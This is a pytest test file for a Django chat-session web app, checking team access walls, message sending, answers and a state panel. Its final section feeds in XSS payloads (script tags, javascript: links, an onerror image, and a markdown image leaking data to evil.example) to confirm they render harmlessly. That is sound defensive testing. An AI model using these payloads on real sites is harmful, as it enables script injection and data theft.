"""The browser pages through the real URLconf: alice and bob (acme) see, charlie gets 404."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from asgiref.sync import async_to_sync
from django.urls import reverse

from sessions_app import services
from sessions_app.models import Entry, QueuedInput, Session
from sessions_app.waiting import wait_settled

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def browser(client, personas):
    """A Django test client logged in as a persona."""

    def login(name):
        client.force_login(personas[name][0])
        return client

    return login


def send(client, session, text, htmx=True):
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(reverse("sessions:send", args=[session.pk]), {"text": text}, headers=headers)


def settled(session):
    return async_to_sync(wait_settled)(session.pk, 10)


# The list ------------------------------------------------------------------------------


def test_the_list_shows_the_current_teams_sessions_newest_first(browser, personas, card):
    alice = personas["alice"][0]
    for title in ("Older work", "Newer work"):
        services.session_create(user=alice, team=personas["acme"], fields={"title": title})
    page = browser("bob").get(reverse("sessions:list")).content.decode()
    assert page.index("Newer work") < page.index("Older work")
    assert 'hx-get="/"' in page and "<!doctype html>" in page
    assert "Older work" not in browser("charlie").get("/").content.decode()


def test_search_returns_only_the_list_partial_to_htmx(browser, session, personas):
    services.session_create(
        user=personas["alice"][0], team=personas["acme"], fields={"title": "Other"}
    )
    r = browser("alice").get("/", {"q": "acme"}, headers={"HX-Request": "true"})
    body = r.content.decode()
    assert r.status_code == 200
    assert body.lstrip().startswith('<div id="session-list">')
    assert "Acme work" in body and "Other" not in body and "<html" not in body
    assert "No session title contains" in browser("alice").get("/", {"q": "zzz"}).content.decode()


def test_pages_need_a_login(client, session):
    for url in ("/", "/sessions/new/", f"/sessions/{session.pk}/"):
        r = client.get(url)
        assert r.status_code == 302 and r["Location"].startswith("/login/")


def test_the_login_page_and_the_team_switcher(client, personas):
    assert b'name="password"' in client.get("/login/").content
    alice, _ = personas["alice"]
    from teams_app.services import member_ensure

    _, globex = member_ensure(username="alice", team_name="globex")
    client.force_login(alice)
    assert client.get("/").context["request"].team == personas["acme"]
    r = client.post(reverse("teams:switch"), {"team": globex.pk})
    assert r.status_code == 302
    assert client.get("/").context["request"].team == globex
    hx = client.post(
        reverse("teams:switch"), {"team": personas["acme"].pk}, headers={"HX-Request": "true"}
    )
    assert hx["HX-Redirect"] == "/"


def test_a_team_you_are_not_in_cannot_be_switched_to(browser, personas):
    r = browser("charlie").post(reverse("teams:switch"), {"team": personas["acme"].pk})
    assert r.status_code == 404


# New session ---------------------------------------------------------------------------


def test_the_new_session_form_offers_the_teams_cards_and_the_default_prompt(
    browser, card, settings
):
    page = browser("alice").get(reverse("sessions:new")).content.decode()
    assert "Test card" in page
    assert settings.HORSIE["DEFAULT_SYSTEM_PROMPT"] in page
    assert "Test card" not in browser("charlie").get(reverse("sessions:new")).content.decode()


def test_creating_a_session_redirects_to_its_page(browser, card, personas):
    r = browser("alice").post(
        reverse("sessions:new"),
        {
            "title": "Plan the launch",
            "model": card.pk,
            "system_prompt": "Be brief.",
            "auto_compact": "on",
        },
    )
    session = Session.objects.get(title="Plan the launch")
    assert r.status_code == 302 and r["Location"] == f"/sessions/{session.pk}/"
    assert (session.team, session.created_by, session.model) == (
        personas["acme"],
        personas["alice"][0],
        card,
    )
    assert session.system_prompt == "Be brief." and session.auto_compact


def test_another_teams_card_is_refused(browser, card):
    r = browser("charlie").post(reverse("sessions:new"), {"title": "x", "model": card.pk})
    assert r.status_code == 200 and "Select a valid choice" in r.content.decode()
    assert not Session.objects.exists()


# The session page ----------------------------------------------------------------------


def test_the_session_page_shows_the_transcript_meter_and_composer(browser, session, personas):
    services.entry_append(
        session_id=session.pk, kind="user", content="Hi there", author=personas["bob"][0]
    )
    services.entry_append(
        session_id=session.pk,
        kind="assistant",
        content="**Hello**",
        data={"usage": {"input_tokens": 2000, "output_tokens": 3, "cached_tokens": 0}},
    )
    services.entry_append(
        session_id=session.pk, kind="tool_result", content="42", data={"name": "calc"}
    )
    services.entry_append(
        session_id=session.pk, kind="notice", content="Heads up", data={"code": "help"}
    )
    services.entry_append(
        session_id=session.pk, kind="command", content="/help", author=personas["bob"][0]
    )
    page = browser("alice").get(reverse("sessions:detail", args=[session.pk])).content.decode()
    assert "Acme work" in page and "Test card" in page and 'id="status-badge"' in page
    counted = api_context_tokens(session)
    assert f"{counted:,} / 8,000" in page  # the meter shows what the context view counts
    assert re.search(r'<div class="body plain" data-field="content">Hi there</div>', page)
    assert "<strong>Hello</strong>" in page
    assert '<details class="tool-result">' in page and "calc" in page
    assert "notice-code" in page and ">help<" in page
    assert 'id="entry-5"' in page and 'id="entry-6"' not in page and 'name="text"' in page


def test_long_transcripts_load_the_newest_page_then_earlier_ones(browser, session):
    for n in range(1, 61):
        services.entry_append(session_id=session.pk, kind="user", content=f"message {n}")
    client = browser("alice")
    page = client.get(reverse("sessions:detail", args=[session.pk])).content.decode()
    assert "message 60<" in page and "message 11<" in page and "message 10<" not in page
    assert "?before=11" in page and 'id="entry-60"' in page
    earlier = client.get(
        reverse("sessions:entries", args=[session.pk]), {"before": 11}
    ).content.decode()
    assert "message 1<" in earlier and "message 10<" in earlier and "message 11<" not in earlier
    assert "Load earlier" not in earlier


def test_one_entry_renders_as_the_server_partial(browser, session):
    services.entry_append(session_id=session.pk, kind="assistant", content="# Title")
    r = browser("bob").get(reverse("sessions:entry", args=[session.pk, 1]))
    body = r.content.decode()
    assert r.status_code == 200 and body.lstrip().startswith("<article")
    assert "<h1>Title</h1>" in body and 'data-seq="1"' in body
    assert browser("bob").get(reverse("sessions:entry", args=[session.pk, 9])).status_code == 404


def test_the_context_meter_partial(browser, session):
    r = browser("alice").get(reverse("sessions:meter", args=[session.pk]))
    assert r.status_code == 200 and 'id="context-meter"' in r.content.decode()


# Sending -------------------------------------------------------------------------------


def test_sending_stores_the_input_and_the_turn_answers(browser, session, scripted, personas):
    r = send(browser("bob"), session, "Hello from the page")
    assert r.status_code == 200 and "horsie:sent" in r["HX-Trigger"]
    assert settled(session) == "idle"
    entries = list(Entry.objects.filter(session=session).order_by("seq"))
    assert [(e.kind, e.content) for e in entries] == [
        ("user", "Hello from the page"),
        ("assistant", "Scripted reply."),
    ]
    assert entries[0].author == personas["bob"][0]


def test_sending_while_a_turn_runs_is_queued(browser, session, scripted):
    from sessions_app.leases import lease_take

    assert lease_take(session.pk) is not None  # a turn is in flight elsewhere
    assert send(browser("alice"), session, "Wait\r\nfor me").status_code == 200
    assert QueuedInput.objects.get(session=session).text == "Wait\nfor me"  # LF, as the API
    assert not Entry.objects.exists()


def test_sending_without_htmx_redirects_back(browser, session, scripted):
    r = send(browser("alice"), session, "plain form", htmx=False)
    assert r.status_code == 302 and r["Location"] == f"/sessions/{session.pk}/"
    settled(session)


@pytest.mark.parametrize(
    ("text", "status", "message"),
    [
        ("", 400, "The message is empty."),
        ("  \n", 400, "The message is empty."),
        ("x" * 200_001, 413, "the limit is 200000"),
    ],
)
def test_bad_messages_are_shown_and_nothing_is_stored(browser, session, text, status, message):
    r = send(browser("alice"), session, text)
    assert r.status_code == status
    assert message in r.content.decode() and 'id="composer-error"' in r.content.decode()
    full = send(browser("alice"), session, text, htmx=False)
    assert full.status_code == status and message in full.content.decode()
    assert not QueuedInput.objects.exists() and not Entry.objects.exists()


# The state panel and answers -----------------------------------------------------------

QUESTION = {"id": "q-route", "question": "Which route?", "options": ["Northern", "Southern"]}


def model_called(session, name, arguments, result, call_id="c1"):
    """The log of a tool call the model made and its result, as the turn loop appends them."""
    call = {"id": call_id, "name": name, "arguments": json.dumps(arguments)}
    services.entry_append(session_id=session.pk, kind="assistant", data={"tool_calls": [call]})
    services.entry_append(
        session_id=session.pk,
        kind="tool_result",
        content="ok",
        data={"call_id": call_id, "name": name, **result},
    )


def asked(session, question=QUESTION):
    arguments = {"question": question["question"], "options": question["options"]}
    model_called(session, "ask_user", arguments, {"question": question}, call_id="c-ask")


def answer(client, session, text, question="q-route", htmx=True):
    headers = {"HX-Request": "true"} if htmx else {}
    data = {"question": question, "text": text}
    return client.post(reverse("sessions:answer", args=[session.pk]), data, headers=headers)


def test_the_state_panel_starts_empty(browser, session):
    page = browser("alice").get(reverse("sessions:detail", args=[session.pk])).content.decode()
    assert 'id="state-panel"' in page
    for empty in ("No tasks", "No timers", "No questions"):
        assert re.search(rf"<p class=\"state-empty\" data-empty=\"\w+\">{empty}</p>", page)


def test_the_state_panel_shows_tasks_timers_and_questions(browser, session):
    tasks = [
        {"text": "Saddle the horses", "status": "done"},
        {"text": "Ride to <Fort Kearny>", "status": "in_progress"},
        {"text": "Hand over the mochila", "status": "pending"},
    ]
    model_called(session, "todo_write", {"tasks": tasks}, {})
    timer = {"id": "t-1", "message": "Check the relay", "seconds": 600.0,
             "due_at": "2999-01-01T00:00:00+00:00"}  # fmt: skip
    model_called(session, "set_timer", {"seconds": 600, "message": "x"}, {"timer": timer}, "c2")
    asked(session)
    page = browser("bob").get(reverse("sessions:detail", args=[session.pk])).content.decode()
    panel = page[page.index('id="state-panel"') :]
    assert re.search(r'data-status="done">\s*<span class="task-mark"', panel)
    assert "Ride to &lt;Fort Kearny&gt;" in panel and "(in progress)" in panel
    assert 'data-key="t-1" data-due="2999-01-01T00:00:00+00:00"' in panel
    assert "Check the relay" in panel and re.search(r">in \d+d \d+:\d\d:\d\d</time>", panel)
    assert "Which route?" in panel
    assert 'name="text" value="Northern">Northern</button>' in panel
    assert (
        'value="q-route"' in panel and 'id="question-q-route"' in panel and "hx-preserve" in panel
    )
    assert "No tasks</p>" in panel and 'data-empty="tasks" hidden' in panel


def test_an_answer_is_stored_and_the_turn_resumes(browser, session, scripted, personas):
    asked(session)
    r = answer(browser("bob"), session, "Southern")
    assert r.status_code == 200 and 'class="answer-error"' in r.content.decode()
    assert settled(session) == "idle"
    entries = list(Entry.objects.filter(session=session, seq__gt=2).order_by("seq"))
    assert [(e.kind, e.content) for e in entries] == [
        ("answer", "Southern"),
        ("assistant", "Scripted reply."),
    ]
    assert entries[0].author == personas["bob"][0]
    assert entries[0].data == {"question": "q-route", "asked": "Which route?"}
    page = browser("bob").get(reverse("sessions:detail", args=[session.pk])).content.decode()
    assert "No questions</p>" in page and 'data-empty="questions" hidden' not in page


def test_an_answer_without_htmx_redirects_back(browser, session, scripted):
    asked(session)
    r = answer(browser("alice"), session, "Northern", htmx=False)
    assert r.status_code == 302 and r["Location"] == f"/sessions/{session.pk}/"
    settled(session)
    assert Entry.objects.filter(session=session, kind="answer").count() == 1


def test_an_answer_to_a_question_not_pending_is_refused(browser, session, scripted):
    asked(session)
    client = browser("alice")
    r = answer(client, session, "Northern", question="q-unknown")
    assert r.status_code == 409 and "no longer waiting" in r.content.decode()
    assert not QueuedInput.objects.exists()

    assert answer(client, session, "Northern").status_code == 200
    settled(session)
    again = answer(client, session, "Southern")
    assert again.status_code == 409 and "no longer waiting" in again.content.decode()
    assert Entry.objects.filter(session=session, kind="answer").count() == 1


@pytest.mark.parametrize(
    ("text", "status", "message"),
    [
        ("", 400, "The answer is empty."),
        (" \n ", 400, "The answer is empty."),
        ("x" * 200_001, 413, "the limit is 200000"),
    ],
)
def test_bad_answers_are_shown_and_nothing_is_stored(browser, session, text, status, message):
    asked(session)
    r = answer(browser("alice"), session, text)
    body = r.content.decode()
    assert r.status_code == status
    assert body.strip().startswith(
        '<div class="answer-error" id="answer-error-q-route" role="alert">'
    )
    assert message in body
    full = answer(browser("alice"), session, text, htmx=False)
    page = full.content.decode()
    assert full.status_code == status and "<!doctype html>" in page
    question = page[page.index('data-key="q-route"') :]
    assert message in question[: question.index("</li>")]  # shown at the question it answers
    assert not QueuedInput.objects.exists()
    assert not Entry.objects.filter(session=session, kind="answer").exists()


def test_answering_needs_a_post_and_a_login(client, browser, session):
    asked(session)
    url = reverse("sessions:answer", args=[session.pk])
    r = client.post(url, {"question": "q-route", "text": "x"})
    assert r.status_code == 302 and r["Location"].startswith("/login/")
    assert browser("alice").get(url).status_code == 405
    assert not QueuedInput.objects.exists()


# Walls ---------------------------------------------------------------------------------


def test_another_team_gets_404_everywhere(browser, session):
    services.entry_append(session_id=session.pk, kind="user", content="secret")
    charlie = browser("charlie")
    pk = session.pk
    for url in (
        reverse("sessions:detail", args=[pk]),
        reverse("sessions:entry", args=[pk, 1]),
        reverse("sessions:meter", args=[pk]),
        reverse("sessions:entries", args=[pk]) + "?before=2",
    ):
        assert charlie.get(url).status_code == 404, url
    assert send(charlie, session, "let me in").status_code == 404
    asked(session)
    assert answer(charlie, session, "Northern").status_code == 404
    assert answer(charlie, session, "Northern", htmx=False).status_code == 404
    assert not QueuedInput.objects.exists()
    assert "secret" not in charlie.get("/").content.decode()


# Nothing a model writes runs -----------------------------------------------------------


class LiveParts(HTMLParser):
    """Collects what a browser would run: script elements, handlers, javascript: URLs."""

    def __init__(self):
        super().__init__()
        self.scripts, self.handlers, self.js_urls, self.images = [], [], [], []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts.append(dict(attrs).get("src"))
        if tag == "img":
            self.images.append(dict(attrs).get("src"))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if value and value.strip().lower().startswith("javascript:"):
                self.js_urls.append((tag, name, value))


XSS = (
    "<script>alert(1)</script>\n\n[x](javascript:alert(1)) and <img src=x onerror=alert(1)>\n\n"
    '![pixel](https://evil.example/leak?d=secret) <a href="javascript:alert(2)">y</a>'
)


@pytest.mark.parametrize("kind", ["assistant", "user", "tool_result", "notice", "boundary"])
def test_nothing_a_model_or_user_writes_runs_as_script(browser, session, kind):
    services.entry_append(session_id=session.pk, kind=kind, content=XSS, data={"code": "<b>x</b>"})
    client = browser("alice")
    for url in (
        reverse("sessions:detail", args=[session.pk]),
        reverse("sessions:entry", args=[session.pk, 1]),
    ):
        html = client.get(url).content.decode()
        parts = LiveParts()
        parts.feed(html)
        own = [src for src in parts.scripts if src and src.startswith("/static/")]
        assert parts.scripts == own, parts.scripts  # only our own static scripts
        assert parts.handlers == [], parts.handlers
        assert parts.js_urls == [], parts.js_urls
        assert set(parts.images) <= {"/static/horsie-mark.svg"}, parts.images
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_nothing_a_model_writes_into_the_state_panel_runs(browser, session):
    xss = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    tasks = [{"text": xss, "status": "pending"}]
    model_called(session, "todo_write", {"tasks": tasks}, {})
    asked(session, {"id": 'q-"><b>', "question": xss, "options": [xss, "javascript:alert(1)"]})
    html = browser("alice").get(reverse("sessions:detail", args=[session.pk])).content.decode()
    parts = LiveParts()
    parts.feed(html)
    assert all(src and src.startswith("/static/") for src in parts.scripts), parts.scripts
    assert parts.handlers == [], parts.handlers
    # An option button's value is the answer's text, sent back as data: never a link.
    assert [url for url in parts.js_urls if url[1] != "value"] == [], parts.js_urls
    assert set(parts.images) <= {"/static/horsie-mark.svg"}, parts.images
    # The task, the question, and the option's label and value: all escaped.
    panel = html[html.index('id="state-panel"') : html.index("</aside>", html.index("state-panel"))]
    assert panel.count("&lt;script&gt;alert(1)&lt;/script&gt;") == 4


def test_markdown_keeps_its_formatting_and_safe_links():
    from sessions_app.templatetags.horsie import render_markdown

    html = render_markdown(
        "**b** [ok](https://example.com) ![alt](https://e.example/p.png)\n\n| a |\n|---|\n| 1 |"
    )
    assert "<strong>b</strong>" in html and "<table>" in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">ok</a>' in html
    assert "<img" not in html and ">alt</a>" in html


def api_context_tokens(session):
    from sessions_app.api import context_json

    return context_json(session)["tokens"]
